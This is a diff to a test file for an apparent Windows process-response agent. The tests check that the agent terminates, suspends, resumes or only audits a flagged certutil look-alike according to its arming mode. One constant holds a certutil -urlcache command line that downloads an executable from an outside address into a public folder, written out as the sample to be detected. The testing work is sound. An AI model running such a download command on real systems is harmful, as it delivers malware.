@@ -1,6 +1,5 @@
 import assert from 'node:assert/strict';
-import { once } from 'node:events';
-import { after, test } from 'node:test';
+import { test } from 'node:test';
 import { defaultFfi, ProcessControl } from '../../../src/windows/index.ts';
 import { AgentFolder, until } from './agent-process.ts';
 import { DoubleScript } from './double-script.ts';
@@ -13,67 +12,175 @@ import { openTestLibrary } from './open-test-library.ts';
  */
 const attack = ['-urlcache', '-split', '-f', 'http://203.0.113.7/a.exe', 'c:\\users\\public\\a.exe'];
 const secondTicks = 10_000_000n;
+/** Long enough to see that a process stands still, on a machine that does other work as well. */
+const holdMs = 8_000;
 
 const control = new ProcessControl(await openTestLibrary(defaultFfi()));
-const victims: LookAlike[] = [];
-after(() => {
-  for (const victim of victims) victim.kill();
-});
 
-function startVictim(): LookAlike {
-  const victim = new LookAlike('certutil.exe', attack);
-  victims.push(victim);
-  return victim;
+/** An agent with its configuration, and the events that it gets. */
+interface Trial {
+  readonly folder: AgentFolder;
+  /** Starts a look-alike of which the agent learns, with a creation time that is off by this much. */
+  startVictim(laterTicks?: bigint): Promise<LookAlike>;
 }
 
-/** Runs an agent with this response while `use` is at work, and gives back what it recorded about actions. */
+/** The parent is known before a child starts; without it the evidence would be incomplete. */
+async function sayParent(etw: DoubleScript, folder: AgentFolder): Promise<void> {
+  etw.say('running', process.pid, 4, 0, '\\Device\\HarddiskVolume3\\Windows\\explorer.exe', 'explorer.exe');
+  await until('the parent is known', async () => {
+    const { stdout } = await folder.ask('status', '--json');
+    return stdout !== '' && (JSON.parse(stdout) as { counters: { records: number } }).counters.records > 0;
+  });
+}
+
+/** Runs an agent with this response while `use` is at work. */
 async function withAgent(
   response: Readonly<Record<string, unknown>>,
-  use: (etw: DoubleScript, folder: AgentFolder) => Promise<void>,
+  use: (trial: Trial) => Promise<void>,
 ): Promise<void> {
   const etw = new DoubleScript('etw');
   const folder = new AgentFolder(etw.path, { response });
-  const agent = folder.start();
-  const ended = once(agent, 'exit');
-  try {
-    etw.say('running', process.pid, 4, 0, '\\Device\\HarddiskVolume3\\Windows\\explorer.exe', 'explorer.exe');
-    // The parent must be known before its child starts.
-    await until('the agent runs', () => folder.said('stderr').includes('Started'));
-    await use(etw, folder);
-  } catch (error) {
-    throw new Error(`${String(error)}\n${folder.said('stderr')}\n${JSON.stringify(folder.record())}`);
-  } finally {
-    folder.stop();
-    await ended;
-  }
+  await folder.whileRunning(async () => {
+    await sayParent(etw, folder);
+    await use({
+      folder,
+      async startVictim(laterTicks) {
+        const victim = new LookAlike('certutil.exe', attack);
+        await victim.sayStart(etw, control, laterTicks);
+        return victim;
+      },
+    });
+  });
 }
 
-function actionsOn(folder: AgentFolder, { pid }: LookAlike) {
-  return folder
-    .record()
-    .filter(({ event, process: p }) => event['dataset'] === 'problemchild.action' && p?.pid === pid)
-    .map(({ event, problemchild }) => ({
-      action: event['action'],
-      outcome: event['outcome'],
-      refused: problemchild?.['refused'],
-    }));
+/** What the agent recorded about actions on a process, once there are so many. */
+async function actionsOn(folder: AgentFolder, { pid }: LookAlike, count = 1) {
+  const find = () =>
+    folder
+      .record()
+      .filter(({ event, process: p }) => event['dataset'] === 'problemchild.action' && p?.pid === pid)
+      .map(({ event, problemchild }) => {
+        const { result } = (problemchild?.['response'] ?? {}) as { result?: string };
+        const refused = problemchild?.['refused'];
+        return [event['action'], event['outcome'], result, ...(refused === undefined ? [] : [refused])];
+      });
+  await until(`${count} actions`, () => find().length >= count);
+  return find();
+}
+
+/** As `process list` names it. */
+async function entityOf(folder: AgentFolder, { pid }: LookAlike): Promise<string> {
+  const { stdout, stderr } = await folder.ask('process', 'list', '--output', 'ndjson');
+  const rows = stdout
+    .split('\n')
+    .flatMap((line) => (line === '' ? [] : [JSON.parse(line) as { pid: number; entity: string }]));
+  const row = rows.find((each) => each.pid === pid);
+  assert.ok(row, `${stdout}${stderr}`);
+  return row.entity;
 }
 
 test('armed to terminate: the flagged process is ended, the same pid of another creation time is not', async () => {
-  await withAgent({ mode: 'terminate' }, async (etw, folder) => {
-    const other = startVictim();
-    await other.sayStart(etw, control, -secondTicks);
-    await until('the refusal', () => actionsOn(folder, other).length > 0);
-    assert.deepEqual(actionsOn(folder, other), [
-      { action: 'terminate', outcome: 'failure', refused: 'PC_REFUSED_IDENTITY' },
+  await withAgent({ mode: 'terminate' }, async ({ folder, startVictim }) => {
+    const other = await startVictim(-secondTicks);
+    assert.deepEqual(await actionsOn(folder, other), [
+      ['terminate', 'failure', 'refused', 'PC_REFUSED_IDENTITY'],
     ]);
-    const victim = startVictim();
-    await victim.sayStart(etw, control);
-    await until('the action', () => actionsOn(folder, victim).length > 0);
-    assert.deepEqual(actionsOn(folder, victim), [
-      { action: 'terminate', outcome: 'success', refused: undefined },
-    ]);
+    const victim = await startVictim();
+    assert.deepEqual(await actionsOn(folder, victim), [['terminate', 'success', 'terminated']]);
     await until('its end', () => victim.hasEnded);
     assert.ok(await other.beats(), 'the other process is untouched');
+  });
+});
+
+test('not armed: the flagged process is left alone, and what would have been done is written down', async () => {
+  await withAgent({}, async ({ folder, startVictim }) => {
+    const victim = await startVictim();
+    assert.deepEqual(await actionsOn(folder, victim), [['terminate', 'unknown', 'audited']]);
+    assert.ok(await victim.beats());
+    const journal = (await folder.ask('response', 'journal')).stdout.trim().split('\n');
+    assert.equal(journal.length, 1);
+    assert.match(journal[0]!, /"result":"audited"/);
+  });
+});
+
+test('armed to suspend: the flagged process stands still until a person resumes it', async () => {
+  await withAgent({ mode: 'suspend' }, async ({ folder, startVictim }) => {
+    const victim = await startVictim();
+    assert.deepEqual(await actionsOn(folder, victim), [['suspend', 'success', 'suspended']]);
+    assert.equal(await victim.beats(), false);
+    assert.match((await folder.ask('response', 'status', '--output', 'ndjson')).stdout, /"held":1\b/);
+    const resumed = await folder.ask('process', 'resume', await entityOf(folder, victim), '--yes');
+    assert.equal(resumed.exitCode, 0, `${resumed.stdout}${resumed.stderr}`);
+    assert.ok(await victim.beats());
+    assert.match((await folder.ask('response', 'status', '--output', 'ndjson')).stdout, /"held":0\b/);
+  });
+});
+
+test('suspended first: not rare enough when the hold is over, the process goes on by itself', async () => {
+  const response = { mode: 'terminate', suspendFirst: true, holdMs, holdMinRarity: 100 };
+  await withAgent(response, async ({ folder, startVictim }) => {
+    const victim = await startVictim();
+    assert.deepEqual(await actionsOn(folder, victim), [['suspend', 'success', 'suspended']]);
+    assert.equal(await victim.beats(), false);
+    assert.deepEqual(await actionsOn(folder, victim, 2), [
+      ['suspend', 'success', 'suspended'],
+      ['resume', 'success', 'resumed'],
+    ]);
+    assert.ok(await victim.beats());
+  });
+});
+
+test('suspended first: rare enough when the hold is over, the process is ended', async () => {
+  const response = { mode: 'terminate', suspendFirst: true, holdMs, holdMinRarity: 1 };
+  await withAgent(response, async ({ folder, startVictim }) => {
+    const victim = await startVictim();
+    assert.deepEqual(await actionsOn(folder, victim, 2), [
+      ['suspend', 'success', 'suspended'],
+      ['terminate', 'success', 'terminated'],
+    ]);
+    await until('its end', () => victim.hasEnded);
+  });
+});
+
+test('what an agent that is gone had suspended, the next one resumes', async () => {
+  const etw = new DoubleScript('etw');
+  const folder = new AgentFolder(etw.path, { response: { mode: 'suspend' } });
+  let victim: LookAlike | undefined;
+  await folder.whileRunning(async (agent) => {
+    await sayParent(etw, folder);
+    victim = new LookAlike('certutil.exe', attack);
+    await victim.sayStart(etw, control);
+    await actionsOn(folder, victim);
+    agent.kill();
+  });
+  assert.equal(await victim!.beats(), false);
+  await folder.whileRunning(async () => {
+    const actions = await actionsOn(folder, victim!, 2);
+    assert.deepEqual(actions[1], ['resume', 'success', 'resumed']);
+    assert.ok(await victim!.beats());
+  });
+});
+
+test('armed by a person for a time, and disarmed', async () => {
+  await withAgent({}, async ({ folder, startVictim }) => {
+    const armed = await folder.ask(
+      'response',
+      'arm',
+      '--mode',
+      'terminate',
+      '--for',
+      '1h',
+      '--reason',
+      'drill',
+    );
+    assert.match(armed.stdout, /mode: terminate/, armed.stderr);
+    const first = await startVictim();
+    assert.deepEqual(await actionsOn(folder, first), [['terminate', 'success', 'terminated']]);
+    await until('its end', () => first.hasEnded);
+    const disarmed = await folder.ask('response', 'disarm', '--reason', 'over');
+    assert.match(disarmed.stdout, /mode: audit/, disarmed.stderr);
+    const second = await startVictim();
+    assert.deepEqual(await actionsOn(folder, second), [['terminate', 'unknown', 'audited']]);
+    assert.ok(await second.beats());
   });
 });
